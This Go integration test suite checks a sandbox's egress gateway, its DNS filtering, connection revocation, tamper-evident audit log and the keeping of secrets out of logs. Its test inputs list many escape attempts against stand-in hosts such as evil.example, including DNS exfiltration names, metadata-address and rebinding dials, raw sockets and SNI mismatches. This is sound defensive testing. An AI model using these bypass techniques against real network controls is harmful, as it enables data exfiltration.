package integration

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"

	"golang.org/x/sys/unix"

	"nemoclaw/integration/world"
)

// earth is a world with hosts, and what the wire to it carried.
type earth struct {
	*world.World
	t       *testing.T
	mu      sync.Mutex
	packets [][]byte
	served  []string // connections that a server saw, by name
	onServe func(name string)
	addr    map[string]netip.Addr
}

// newEarth makes the internet of the laws: a TLS and an HTTP server, an echo on
// port 7000, and hosts that no policy names.
func newEarth(t *testing.T) *earth {
	t.Helper()
	needRoot(t)
	w, err := world.New()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { w.Close() })
	e := &earth{World: w, t: t, addr: map[string]netip.Addr{}}
	for _, name := range []string{"api.good.example", "evil.example"} {
		e.addr[name], err = w.ServeHTTPS(name, http.HandlerFunc(func(out http.ResponseWriter, _ *http.Request) { io.WriteString(out, "hello from "+name) }))
		e.must(err)
	}
	e.addr["web.good.example"], err = w.ServeHTTP("web.good.example", http.HandlerFunc(func(out http.ResponseWriter, _ *http.Request) { io.WriteString(out, "hello from the web") }))
	e.must(err)
	for _, name := range []string{"echo.good.example", "other.good.example", "echo.evil.example"} {
		e.addr[name], err = w.ServeTCP(name, 7000, e.echo(name))
		e.must(err)
	}
	e.must(w.ServeAddr(world.Neighbour, 7000, e.echo("neighbour")))
	w.Name("rebound.example", world.Neighbour)
	w.Name("local.example", netip.MustParseAddr("127.0.0.1"))
	w.Name("metadata.example", netip.MustParseAddr("169.254.169.254"))
	e.must(w.Capture(func(p []byte) {
		e.mu.Lock()
		defer e.mu.Unlock()
		e.packets = append(e.packets, p)
	}))
	return e
}

func (e *earth) must(err error) {
	e.t.Helper()
	if err != nil {
		e.t.Fatal(err)
	}
}

func (e *earth) echo(name string) func(net.Conn) {
	return func(c net.Conn) {
		e.mu.Lock()
		e.served = append(e.served, name)
		onServe := e.onServe
		e.mu.Unlock()
		if onServe != nil {
			onServe(name)
		}
		for r := bufio.NewReader(c); ; {
			said, err := r.ReadString('\n')
			if err != nil {
				return
			}
			io.WriteString(c, said)
		}
	}
}

// policy is one whose uplink is the world, or the engine's cable, and whose
// rules are hosts with a port: "HOST PORT".
func (e *earth) policy(uplink string, hosts ...string) string {
	var s strings.Builder
	fmt.Fprintf(&s, "network: {uplink: %s, dns: [%s]}\negress:\n  rules:\n", uplink, world.Nameserver)
	if len(hosts) == 0 {
		s.WriteString("    []\n")
	}
	for _, h := range hosts {
		host, port, _ := strings.Cut(h, " ")
		fmt.Fprintf(&s, "    - {host: %s, port: %s, allow_private: [203.0.113.0/24]}\n", host, port)
	}
	return s.String()
}

// allowed are the hosts of the policy in most tests.
var allowed = []string{"api.good.example 443", "web.good.example 80", "echo.good.example 7000"}

// sandbox is a running container with a policy for the hosts.
func (e *earth) sandbox(hosts ...string) (*box, *talk) {
	e.t.Helper()
	b := newBox(e.t)
	return b, e.up(b, hosts...)
}

// up runs a box that was made with a policy for the hosts.
func (e *earth) up(b *box, hosts ...string) *talk {
	e.t.Helper()
	b.policy(e.policy(e.Uplink(), hosts...))
	return b.up()
}

// packet is what matters of a packet.
type packet struct {
	proto byte
	to    netip.AddrPort
	syn   bool
}

func (p packet) String() string { return fmt.Sprintf("protocol %d to %s", p.proto, p.to) }

// sent are the IP packets that came from the uplink so far, but for what the
// kernel itself says on a new link (neighbours and groups, ICMPv6 130 to 143).
func (e *earth) sent() (list []packet) {
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, p := range e.packets {
		switch {
		case len(p) >= 24 && p[0]>>4 == 4:
			h := int(p[0]&15) * 4
			to := packet{proto: p[9], to: netip.AddrPortFrom(netip.AddrFrom4([4]byte(p[16:20])), 0)}
			if to.proto == unix.IPPROTO_TCP || to.proto == unix.IPPROTO_UDP {
				to.to = netip.AddrPortFrom(to.to.Addr(), binary.BigEndian.Uint16(p[h+2:]))
				to.syn = to.proto == unix.IPPROTO_UDP || len(p) > h+13 && p[h+13]&2 != 0
			}
			list = append(list, to)
		case len(p) >= 41 && p[0]>>4 == 6:
			if p[6] == 0 || p[6] == unix.IPPROTO_ICMPV6 && p[40] >= 130 && p[40] <= 143 {
				continue
			}
			list = append(list, packet{proto: p[6], to: netip.AddrPortFrom(netip.AddrFrom16([16]byte(p[24:40])), 0)})
		}
	}
	return list
}

// explain holds every packet against the audit log: it goes to the name server
// or to a host that the log says was allowed. While a connection is open the log
// has its host's name; the address comes with the end.
func (e *earth) explain(b *box) {
	e.t.Helper()
	known := map[netip.AddrPort]bool{netip.AddrPortFrom(world.Nameserver, 53): true}
	for _, l := range b.audit() {
		if !slices.Contains([]string{"allow", "end", "cut", "fail"}, l.More.Verdict) || l.Connection.Direction == inbound {
			continue
		}
		addr, err := netip.ParseAddr(l.Dst.IP)
		if err != nil {
			addr = e.addr[l.Dst.Hostname]
		}
		known[netip.AddrPortFrom(addr, uint16(l.Dst.Port))] = true
	}
	for _, p := range e.sent() {
		if !known[p.to] || p.proto != unix.IPPROTO_TCP && p.proto != unix.IPPROTO_UDP {
			e.t.Errorf("a packet left that the audit log does not explain: %s", p)
		}
	}
}

// waysOut are attempts to send something past the gateway to a host that
// exists: none may arrive, and none may hang.
func waysOut(e *earth) []string {
	evil, echo := e.addr["evil.example"].String(), e.addr["echo.good.example"].String()
	return []string{
		"dial " + evil + ":443",
		"dial " + echo + ":7000", // a listed host by its address is not its name
		"dial evil.example:443",
		"dial echo.evil.example:7000",
		"dial echo.good.example:7001", // a listed host on another port
		"dial-fast " + evil + ":443",
		"dial-mptcp " + evil + ":443",
		"dial-over eth0 " + evil + ":443",
		"dial-over lo " + evil + ":443",
		"dial-marked 0x6e63 " + evil + ":443",
		"dial " + world.Neighbour.String() + ":7000",
		"dial " + world.Router.String() + ":7000",
		"dial 127.0.0.11:54",
		"dial [2001:db8::1]:443",
		"dial [::ffff:" + evil + "]:443",
		"dial 2886795266:80", // an address in one number
		"udp " + evil + ":443",
		"udp " + world.Neighbour.String() + ":9",
		"udp [2001:db8::1]:443",
		"ask udp " + world.Nameserver.String() + ":53 stolen-secret.evil.example",
		"ask tcp " + world.Nameserver.String() + ":53 stolen-secret.evil.example",
		"ask udp 127.0.0.11:53 stolen-secret.evil.example",
		"text stolen-secret.evil.example",
		"resolve stolen-secret.evil.example",
		"ping " + evil,
		"sctp " + evil + " 443",
		"socket 2 3 1",    // raw ICMP
		"socket 2 3 255",  // raw IP
		"socket 17 3 768", // packet
		"socket 10 3 58",  // raw ICMPv6
		"http " + evil + ":80 web.good.example",
		"http web.good.example:80 evil.example",
		"tls api.good.example:443 evil.example",
		"tls " + evil + ":443 api.good.example",
		"dial api.good.example:443 GARBAGE",
		"http api.good.example:443 api.good.example",
		"tls web.good.example:80 web.good.example",
		"dial rebound.example:7000",
		"dial local.example:7000",
		"dial metadata.example:7000",
	}
}

// shouts are datagrams that no kernel answers, not even by an error.
var shouts = []string{"send 255.255.255.255:67", "send 224.0.0.251:5353", "send [ff02::fb]:5353", "send 198.51.100.255:9", "send 203.0.113.255:9"}

// isRefusal tells whether an answer is one: an errno that came at once, the end
// of the connection, or the gateway's own words.
func isRefusal(answer string) bool {
	if strings.HasPrefix(answer, "ok 403") || strings.HasPrefix(answer, "ok 400") {
		return true
	}
	return !strings.HasPrefix(answer, "ok") && answer != "TIMEOUT" || isNoAnswer(answer)
}

// isNoAnswer: names that are not listed have synthetic addresses, which say
// nothing.
func isNoAnswer(answer string) bool { return strings.HasPrefix(answer, "ok 198.1") }

// Law 4: no packet that the container originates leaves except through the
// gateway; with the gateway dead, none leaves.
func TestLaw4NothingLeavesButThroughTheGateway(t *testing.T) {
	for _, c := range []struct{ name, uplink string }{{"a named uplink", "path"}, {"the engine's cable", "auto"}} {
		t.Run(c.name, func(t *testing.T) {
			for _, user := range []string{"root", "user", "privileged"} {
				t.Run(user, func(t *testing.T) { testNothingLeaves(t, c.uplink, user) })
			}
		})
	}
}

func testNothingLeaves(t *testing.T, uplink, user string) {
	e := newEarth(t)
	b := newBox(t)
	switch user {
	case "user":
		b.asUser()
	case "privileged": // it asks for the network, and does not get it
		setCapabilities(b.spec, append([]string{"CAP_NET_ADMIN", "CAP_SYS_ADMIN"}, dockerCapabilities...)...)
	}
	if uplink == "path" {
		uplink = e.Uplink()
	}
	b.policy(e.policy(uplink, append(allowed, "rebound.example 7000", "local.example 7000", "metadata.example 7000")...))
	main, created := b.create()
	if created.code != 0 {
		t.Fatalf("create: %s", created)
	}
	if uplink == "auto" {
		e.must(e.PlugInto(fmt.Sprintf("/proc/%d/ns/net", b.initPID())))
	}
	if got := b.start(); got.code != 0 {
		t.Fatalf("start: %s", got)
	}
	for _, k := range []*talk{main, b.exec()} {
		for _, verb := range waysOut(e) {
			if got := k.ask(verb); !isRefusal(got) {
				t.Errorf("%s: %s: %s, want a refusal", k.name, verb, got)
			}
		}
		for _, verb := range shouts {
			k.ask(verb)
		}
		// Positive controls: what the policy allows does arrive.
		k.want("ok hello", "dial echo.good.example:7000 hello")
		k.want("ok 200 OK hello from api.good.example", "tls api.good.example:443 api.good.example")
		k.want("ok 200 OK hello from the web", "http web.good.example:80 web.good.example")
	}
	ends := 0
	b.await("the end of all connections", func(l line) bool {
		if l.More.Verdict == "end" {
			ends++
		}
		return ends == 6
	})
	e.explain(b)

	// The server answers: whatever opened this connection has left before.
	main.want("ok", "open live echo.good.example:7000")
	main.want("ok", "say live hello")
	main.want("ok hello", "hear live")
	monitor, worker := b.monitor(), b.worker()
	kill(t, monitor, worker)
	if got := main.ask("hear live"); got != "ECONNRESET" && got != "EOF" {
		t.Errorf("with the gateway dead a connection goes on: %s", got)
	}
	before := len(e.sent())
	for _, verb := range append(waysOut(e), "dial echo.good.example:7000 hello", "dial 198.18.0.3:7000", "resolve echo.good.example") {
		if got := main.ask(verb); !isRefusal(got) || isNoAnswer(got) {
			t.Errorf("with the gateway dead: %s: %s, want a refusal", verb, got)
		}
	}
	for _, p := range e.sent()[before:] {
		if p.syn || p.proto != unix.IPPROTO_TCP {
			t.Errorf("with the gateway dead a packet left: %s", p)
		}
	}
}

// Law 5: no DNS question for an unlisted name leaves the host, and a listed one
// only when it is connected to.
func TestLaw5NoUnlistedQuestionLeaves(t *testing.T) {
	e := newEarth(t)
	b, main := e.sandbox(allowed...)
	secret := "c2VjcmV0.exfil.evil.example"
	for _, k := range []*talk{main, b.exec(), b.exec("--user", "1000")} {
		for _, verb := range []string{
			"resolve " + secret, "text " + secret, "resolve x.api.good.example", "resolve API.good.example.evil.example",
			"ask udp 198.18.0.1:53 " + secret, "ask tcp 198.18.0.1:53 " + secret,
			"ask udp 127.0.0.11:53 " + secret, "ask tcp 127.0.0.11:53 " + secret, "ask udp 127.0.0.1:53 " + secret, "ask udp [::1]:53 " + secret,
			"ask udp " + world.Nameserver.String() + ":53 " + secret, "ask tcp " + world.Nameserver.String() + ":53 " + secret,
			"ask udp 8.8.8.8:53 " + secret, "ask udp " + world.Neighbour.String() + ":53 " + secret,
			"dial " + secret + ":443", "dial " + secret + ":7000", "http " + secret + ":80 " + secret, "tls " + secret + ":443 " + secret,
			"dial " + world.Nameserver.String() + ":853",
			"udp " + world.Nameserver.String() + ":5353",
			"resolve api.good.example",
		} {
			if got := k.ask(verb); got == "TIMEOUT" {
				t.Errorf("%s: %s hangs", k.name, verb)
			}
		}
	}
	if q := e.Questions(); len(q) != 0 {
		t.Errorf("before any connection the name server was asked for %q", q)
	}
	main.want("ok hello", "dial echo.good.example:7000 hello") // positive control
	for _, q := range e.Questions() {
		if q != "echo.good.example" {
			t.Errorf("the name server was asked for %q", q)
		}
	}
	if len(e.Questions()) == 0 {
		t.Error("the name server saw nothing of a connection that was allowed")
	}
}

// Law 6: no connection passes that the policy in force does not allow; revoked
// ones are cut.
func TestLaw6RevokedConnectionsAreCut(t *testing.T) {
	e := newEarth(t)
	b, main := e.sandbox(append(allowed, "other.good.example 7000", "rebound.example 7000", "local.example 7000")...)
	exec := b.exec()

	// What is named must be what is meant.
	for _, c := range []struct{ verb, reason string }{
		{"tls api.good.example:443 evil.example", "name-mismatch"},
		{"http web.good.example:80 evil.example", "name-mismatch"},
		{"dial api.good.example:443 plain", "not-tls"},
		{"dial " + e.addr["echo.good.example"].String() + ":7000", "direct-address"},
		{"dial rebound.example:7000", "private-address"},
		{"dial local.example:7000", "forbidden-address"},
		{"dial evil.example:7000", "not-listed"},
	} {
		for _, k := range []*talk{main, exec} {
			if got := k.ask(c.verb); !isRefusal(got) {
				t.Errorf("%s: %s: %s, want a refusal", k.name, c.verb, got)
			}
		}
		b.await(c.verb, func(l line) bool { return l.More.Verdict == "refuse" && l.More.Reason == c.reason })
	}

	// A rule that is taken out takes its connections with it, and no others.
	for _, k := range []*talk{main, exec} {
		k.want("ok", "open one echo.good.example:7000")
		k.want("ok", "open two other.good.example:7000")
		for _, name := range []string{"one", "two"} {
			k.want("ok", "say "+name+" hello")
			k.want("ok hello", "hear "+name)
		}
	}
	b.policy(e.policy(e.Uplink(), "other.good.example 7000"))
	for _, k := range []*talk{main, exec} {
		k.want("ECONNRESET", "hear one")
		k.want("ok", "say two still")
		k.want("ok still", "hear two")
		if got := k.ask("dial echo.good.example:7000 again"); !isRefusal(got) {
			t.Errorf("%s: revoked, and dialed again: %s", k.name, got)
		}
	}
	b.await("the cut", func(l line) bool { return l.More.Verdict == "cut" && l.More.Reason == "revoked" })

	// So does an operator's word. It opens no private address, which all hosts
	// of this world have but one.
	b.decide("approve", "echo.good.example", 7000)
	main.want("ECONNRESET", "dial echo.good.example:7000 private")
	e.must(e.HostAt("public.example", public))
	e.must(e.ServeAddr(public, 7000, e.echo("public.example")))
	main.want("ECONNRESET", "dial public.example:7000 hello")
	b.decide("approve", "public.example", 7000)
	for _, k := range []*talk{main, exec} {
		k.want("ok hello", "dial public.example:7000 hello")
		k.want("ok", "open three public.example:7000")
	}
	b.decide("deny", "public.example", 7000)
	for _, k := range []*talk{main, exec} {
		k.want("ECONNRESET", "hear three")
		k.want("ECONNRESET", "dial public.example:7000 denied")
	}
	// A deny rule beats every approval.
	b.policy(e.policy(e.Uplink(), "other.good.example 7000") + "  deny: [{host: public.example}]\n")
	b.await("the deny rule", func(l line) bool { return l.More.Kind == "policy" && l.More.Generation == b.status().Generation })
	b.decide("approve", "public.example", 7000)
	main.want("ECONNRESET", "dial public.example:7000 denied")
	e.explain(b)
}

// public is an address that anybody may reach, by IANA's registries. In this
// world it is ours.
var public = netip.MustParseAddr("5.5.5.5")

// Law 7: every decision is written before its first byte; a broken, missing,
// added or cut-off line is detectable.
func TestLaw7DecisionsAreWrittenFirst(t *testing.T) {
	t.Run("before", testWrittenBefore)
	t.Run("or not at all", testUnwritableMeansNo)
	t.Run("no room", testNoRoomMeansNo)
	t.Run("tampering", testTampering)
}

// The server reads the log when it gets a connection: the line is there.
func testWrittenBefore(t *testing.T) {
	e := newEarth(t)
	b, main := e.sandbox(allowed...)
	missing := make(chan string, 100)
	accepted := 0
	e.mu.Lock()
	e.onServe = func(name string) {
		text, _ := os.ReadFile(b.auditFile())
		accepted++
		if got := strings.Count(string(text), `"verdict":"allow"`); got < accepted {
			missing <- fmt.Sprintf("%d lines for %d connections to %s", got, accepted, name)
		}
	}
	e.mu.Unlock()
	for range 20 {
		main.want("ok hello", "dial echo.good.example:7000 hello")
	}
	select {
	case what := <-missing:
		t.Errorf("a connection came before its line: %s", what)
	default:
	}
}

// A log that cannot be written any more: what it cannot tell may not happen.
func testUnwritableMeansNo(t *testing.T) {
	e := newEarth(t)
	b, main := e.sandbox(allowed...)
	main.want("ok hello", "dial echo.good.example:7000 hello")
	b.await("the end", func(l line) bool { return l.More.Verdict == "end" })
	st, err := os.Stat(b.auditFile())
	b.must(err)
	// No file of the monitor's may grow beyond what the log is now.
	limit := unix.Rlimit{Cur: uint64(st.Size()), Max: uint64(st.Size())}
	b.must(unix.Prlimit(b.monitor(), unix.RLIMIT_FSIZE, &limit, nil))
	served := len(e.servedNow())
	for _, verb := range []string{"dial echo.good.example:7000 hello", "tls api.good.example:443 api.good.example", "http web.good.example:80 web.good.example"} {
		if got := main.ask(verb); !isRefusal(got) {
			t.Errorf("the log cannot be written, and %s: %s", verb, got)
		}
	}
	if now := e.servedNow(); len(now) != served {
		t.Errorf("the log cannot be written, and servers saw %v", now[served:])
	}
	if b.status().AuditFault == "" {
		t.Error("status does not tell that the log cannot be written")
	}
}

// A disk that has no room for a sandbox's first lines: there is no sandbox. One
// that fills up while it runs: what still passes is written, and then nothing
// passes.
func testNoRoomMeansNo(t *testing.T) {
	e := newEarth(t)
	b := newBox(t)
	b.policy(e.policy(e.Uplink(), allowed...))
	b.disk("4k")
	got := b.run("/bin/sh", "-c", "echo ran; echo ran > /sandbox/mark")
	if got.code == 0 || !strings.Contains(got.stderr, "audit log") && !strings.Contains(got.stderr, "cannot record") {
		t.Errorf("run: %s", got)
	}
	b.wantNothingRan(got)

	b.disk("64k")
	b.spec.Process.Args = []string{"/bin/probe", "serve"}
	main := b.up()
	passed := 0
	for main.ask("dial echo.good.example:7000 hello") == "ok hello" {
		if passed++; passed > 500 {
			t.Fatal("500 connections are written to a disk of 64 KiB")
		}
	}
	text, err := os.ReadFile(b.auditFile())
	b.must(err)
	if written, served := strings.Count(string(text), `"verdict":"allow"`), len(e.servedNow()); passed == 0 || served > written {
		t.Errorf("of %d connections that the server saw %d are written", served, written)
	}
}

// disk puts the audit logs on a disk of their own.
func (b *box) disk(size string) {
	b.t.Helper()
	_ = unix.Unmount(b.path("log"), unix.MNT_DETACH) // the one before
	b.must(unix.Mount("tmpfs", b.path("log"), "tmpfs", 0, "size="+size))
	b.t.Cleanup(func() { _ = unix.Unmount(b.path("log"), unix.MNT_DETACH) })
}

func testTampering(t *testing.T) {
	e := newEarth(t)
	b, main := e.sandbox(allowed...)
	for range 3 {
		main.want("ok hello", "dial echo.good.example:7000 hello")
		main.ask("dial evil.example:443 hello")
	}
	if got := b.nemoclaw(nil, "delete", "--force", b.id); got.code != 0 {
		t.Fatalf("delete: %s", got)
	}
	file := b.auditFile()
	whole, err := os.ReadFile(file)
	b.must(err)
	lines := strings.SplitAfter(strings.TrimSuffix(string(whole), "\n"), "\n")
	lines[len(lines)-1] += "\n"
	n := len(lines) / 2
	with := func(parts ...[]string) string { return strings.Join(slices.Concat(parts...), "") }
	for _, c := range []struct {
		name, text string
		sound      bool
	}{
		{"as it was written", string(whole), true},
		{"a changed line", strings.Replace(string(whole), `"verdict":"refuse"`, `"verdict":"allow"`, 1), false},
		{"a removed line", with(lines[:n], lines[n+1:]), false},
		{"a doubled line", with(lines[:n], lines[n-1:n], lines[n:]), false},
		{"two lines swapped", with(lines[:n], lines[n+1:n+2], lines[n:n+1], lines[n+2:]), false},
		{"the last line cut off", with(lines[:len(lines)-1]), false},
		{"the last bytes cut off", string(whole[:len(whole)-7]), false},
		{"the first line removed", with(lines[1:]), false},
		{"everything removed", "", false},
		{"a line added", string(whole) + lines[n], false},
	} {
		b.must(os.WriteFile(file, []byte(c.text), 0o600))
		if got := b.ctl("audit", "verify", file); (got.code == 0) != c.sound {
			t.Errorf("%s: verify: %s", c.name, got)
		}
	}
}

// What a program says, is told and is started with is nobody's to read in a log:
// bodies, query strings and passwords on command lines do not get there, nor
// where an operator looks.
func TestLogHoldsNoSecrets(t *testing.T) {
	e := newEarth(t)
	b, _ := e.sandbox(allowed...)
	const secret = "hunter2"
	for _, args := range [][]string{
		{"http", "web.good.example:80", "web.good.example", "/path?token=" + secret},
		{"http", "evil.example:80", "evil.example", "/path?token=" + secret},
		{"dial", "echo.good.example:7000", secret},
		{"dial", "echo.evil.example:7000", secret},
		{"http", "web.good.example:80", "evil.example", "/path?token=" + secret},
	} {
		b.execute(append([]string{"--env", "TOKEN=" + secret, b.id, "/bin/probe"}, args...)...)
	}
	ends, refusals := 0, 0
	b.await("all of it", func(l line) bool {
		switch l.More.Verdict {
		case "end":
			ends++
		case "refuse":
			refusals++
		}
		return ends == 2 && refusals == 3
	})
	log, err := os.ReadFile(b.auditFile())
	b.must(err)
	for what, text := range map[string]string{"the audit log": string(log), "log": b.ctl("log", b.id).stdout, "pending": b.ctl("pending", "--json").stdout, "status": b.ctl("status", "--json", b.id).stdout, "metrics": b.ctl("metrics", b.id).stdout} {
		if text == "" || strings.Contains(text, secret) {
			t.Errorf("in %s, of %d bytes, stands %.100q", what, len(text), text[max(0, strings.Index(text, secret)-90):])
		}
	}
}

// Law 8: a policy that does not parse changes nothing and is said aloud.
func TestLaw8BadPolicyChangesNothing(t *testing.T) {
	e := newEarth(t)
	b, main := e.sandbox(allowed...)
	main.want("ok", "open live echo.good.example:7000")
	good := e.policy(e.Uplink(), allowed...)
	for _, c := range []struct{ name, text, says string }{
		{"a word that is none", strings.Replace(good, "rules:", "rulez:", 1), "rulez"},
		{"half a file", good[:len(good)-8], ""},
		{"nothing", "", "egress.rules"},
		{"no rules", "version: 1\n", "egress.rules"},
		{"not YAML", "\x00\xff{[", ""},
		{"another version", "version: 2\negress: {rules: []}\n", "version"},
	} {
		before := b.status().Generation
		b.policy(c.text)
		b.await(c.name, func(l line) bool { return l.More.Kind == "fault" && strings.Contains(l.Message, c.says) })
		st := b.status()
		if st.Generation != before || st.PolicyFault == "" {
			t.Errorf("%s: %+v", c.name, st)
		}
		main.want("ok", "say live hello")
		main.want("ok hello", "hear live")
		main.want("ok hello", "dial echo.good.example:7000 hello")
		if got := main.ask("dial evil.example:443"); !isRefusal(got) {
			t.Errorf("%s: an unlisted host: %s", c.name, got)
		}
		if got := b.nemoclaw(nil, "check", b.path("policy.yaml")); got.code == 0 && c.says != "egress.rules" {
			t.Errorf("%s: check: %s", c.name, got)
		}
	}
	b.must(os.Remove(b.path("policy.yaml")))
	main.want("ok", "say live hello")
	main.want("ok hello", "hear live")
	// A good one is in force again, and the fault is gone.
	b.policy(e.policy(e.Uplink(), "other.good.example 7000"))
	main.want("ECONNRESET", "hear live")
	if st := b.status(); st.PolicyFault != "" {
		t.Errorf("after a good policy: %+v", st)
	}
}

func (e *earth) servedNow() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return slices.Clone(e.served)
}

// ctl runs nemoclawctl with the box's settings.
func (b *box) ctl(args ...string) result {
	b.t.Helper()
	cmd := exec.Command(program(b.t, "nemoclawctl"), args...)
	cmd.Env = append(os.Environ(), "NEMOCLAW_CONFIG="+b.path("config.yaml"))
	return b.finish(b.denying(cmd))
}
